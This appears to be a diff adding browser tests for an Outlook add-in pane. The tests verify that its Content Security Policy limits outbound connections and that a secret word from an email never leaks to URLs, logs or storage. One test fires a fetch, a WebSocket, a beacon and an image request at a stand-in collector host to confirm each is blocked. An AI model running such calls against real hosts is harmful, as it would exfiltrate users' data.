@@ -1,0 +1,115 @@
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import type { Browser } from 'playwright-core';
+import { MailServer } from '../../emulator/outlook/mail-server';
+import type { RunningEmulator } from '../../emulator/server/server';
+import { openBrowser } from './harness/browser';
+import { builtFolder, openOutlook, pane, startForTest } from './harness/emulator';
+import { watchNetwork } from './harness/network';
+
+/* Who the pane may speak to, and where a message's words are found after an hour's work: nowhere but in its memory. */
+jest.setTimeout(120_000);
+
+let browser: Browser;
+let emulator: RunningEmulator;
+const secret = 'Quendrillow';
+
+beforeAll(async () => {
+  const mail = new MailServer();
+  const [first] = mail.mailbox.folder('inbox');
+  if (first === undefined) throw new Error('empty');
+  const text = `Hello Paul,\n\nthis is ${secret}. Can you ring me by Friday about the damp? You never answered my last email.\n`;
+  mail.mailbox.put({
+    ...first,
+    id: `${first.id}Q`,
+    subject: `Damp ${secret}`,
+    text,
+    html: `<p>${text}</p>`,
+    received: '2026-11-22T10:00:00.000Z',
+  });
+  [browser, emulator] = await Promise.all([openBrowser(), startForTest({ mail })]);
+});
+afterAll(async () => {
+  await browser.close();
+  await emulator.close();
+});
+
+const connectOf = (policy: string): readonly string[] => (/connect-src ([^;"]+)/.exec(policy)?.[1] ?? '').trim().split(/\s+/).sort();
+const allowed = ["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com'];
+
+test('the pane’s own policy and the gateway’s name the same peers: itself, Graph and the sign-in', () => {
+  const page = readFileSync(resolve(builtFolder, 'pane', 'taskpane.html'), 'utf8');
+  expect(connectOf(page)).toEqual(allowed);
+  const gateway = readFileSync('src/gateway/pane-files.ts', 'utf8');
+  const named = connectOf(gateway);
+  expect(named.filter((peer) => !allowed.includes(peer))).toEqual([]);
+  expect(named).toEqual(expect.arrayContaining(allowed));
+});
+
+test('a fetch, a socket, a beacon and a picture to anywhere else are stopped in the pane', async () => {
+  const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1280, height: 900 } });
+  const page = await context.newPage();
+  const network = await watchNetwork(page);
+  await openOutlook(page, emulator.address, { show: 'outlook-message' });
+  const frame = await pane(page);
+  await frame.getByRole('button', { name: 'Draft a reply' }).waitFor();
+  const tried = await frame.evaluate(async () => {
+    const blocked: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
+    const outcomes: string[] = [];
+    await fetch('https://collector.example/?q=1').then(
+      () => outcomes.push('fetched'),
+      () => outcomes.push('refused'),
+    );
+    try {
+      new WebSocket('wss://collector.example/');
+    } catch {
+      outcomes.push('refused');
+    }
+    navigator.sendBeacon('https://collector.example/', 'x');
+    const picture = new Image();
+    picture.src = 'https://collector.example/dot.png';
+    await new Promise((later) => setTimeout(later, 500));
+    return { outcomes, blocked };
+  });
+  expect(tried.outcomes).not.toContain('fetched');
+  expect(tried.blocked).toContain('connect-src');
+  expect(tried.blocked).toContain('img-src');
+  // Stopped by the policy: the request never came to the network, where the watch would have refused it.
+  expect(network.strangers).toEqual([]);
+  await context.close();
+});
+
+test('reading, ranking and answering leave a message’s words in no address, no log, no store', async () => {
+  const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1280, height: 900 } });
+  const page = await context.newPage();
+  page.setDefaultTimeout(20_000);
+  const network = await watchNetwork(page);
+  await openOutlook(page, emulator.address, { show: 'outlook-inbox' });
+  let frame = await pane(page);
+  await frame.getByText('What needs me first').click();
+  await frame.getByText(/messages, read at/).waitFor({ timeout: 30_000 });
+  await page.evaluate((words) => window.fairCopyEmulator.outlook?.openBySubject(words), `Damp ${secret}`);
+  await frame.getByRole('button', { name: 'Back', exact: true }).click();
+  frame = await pane(page);
+  await frame.getByRole('button', { name: /Draft a reply/ }).click();
+  await frame.locator('[id^="reply-"]').first().click();
+  const write = frame.getByRole('button', { name: 'Write a draft' });
+  await write.click();
+  if (await write.isVisible().catch(() => false)) await write.click().catch(() => undefined);
+  await frame.getByRole('heading', { level: 1, name: 'Your reply' }).waitFor();
+  const ofPane = network.requests.filter(({ url }) => url.startsWith(emulator.paneAddress));
+  expect(ofPane.filter(({ url }) => decodeURIComponent(url).includes(secret))).toEqual([]);
+  expect(ofPane.filter(({ body }) => body.includes(secret))).toEqual([]);
+  expect(network.console.filter((line) => line.includes(secret))).toEqual([]);
+  const stored = await frame.evaluate(async () => ({
+    local: JSON.stringify(window.localStorage),
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    caches: await caches.keys(),
+    cookies: document.cookie,
+    address: location.href,
+  }));
+  expect(JSON.stringify(stored)).not.toContain(secret);
+  expect([stored.databases, stored.caches, stored.cookies]).toEqual([[], [], '']);
+  await context.close();
+});
